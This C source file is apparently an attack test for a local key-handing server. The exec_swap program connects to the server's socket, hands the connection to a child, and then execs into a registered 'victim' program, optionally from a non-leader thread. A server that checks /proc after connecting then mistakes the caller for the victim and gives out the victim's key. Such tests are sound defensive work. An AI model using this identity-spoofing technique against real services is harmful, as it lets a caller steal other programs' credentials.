/* SPDX-License-Identifier: Apache-2.0 */
/*
 * exec_swap SOCKET VICTIM [thread]: a process without identity connects, leaves the socket to a
 * child, and becomes VICTIM (a program that a registration entry names). The pid at the far end of
 * the connection now runs the victim's image, and the child asks on the connection. A server that
 * looks at /proc after the connect hands over the victim's key. With "thread", a thread that is not
 * the leader does the exec: the kernel gives the leader's pid to it.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

static char *victim;

static void *become(void *unused)
{
	/* The victim outlives the question: it sleeps on a file that never has anything. */
	char *const args[] = {victim, (char[]){"--sleep"}, NULL};

	(void)unused;
	execv(victim, args);
	die("exec %s: %s", victim, strerror(errno));
}

int main(int argc, char **argv)
{
	const pid_t parent = getpid();
	pthread_t thread;
	int fd;

	if (argc < 3)
		die("usage: exec_swap SOCKET VICTIM [thread]");
	victim = argv[2];
	fd = dial(argv[1]);
	switch (fork()) {
	case -1: die("fork: %s", strerror(errno));
	case 0:
		if (!wait_exe(parent, victim, 5000))
			die("the parent never became %s", victim);
		ask(fd);
		{
			const struct answer a = hear(fd, 3000);

			report("exec_swap", &a);
		}
		return 0;
	default: break;
	}
	fcntl(fd, F_SETFD, 0);
	if (argc > 3 && !strcmp(argv[3], "thread")) {
		if (pthread_create(&thread, NULL, become, NULL))
			die("pthread_create failed");
		for (;;)
			pause();
	}
	become(NULL);
}
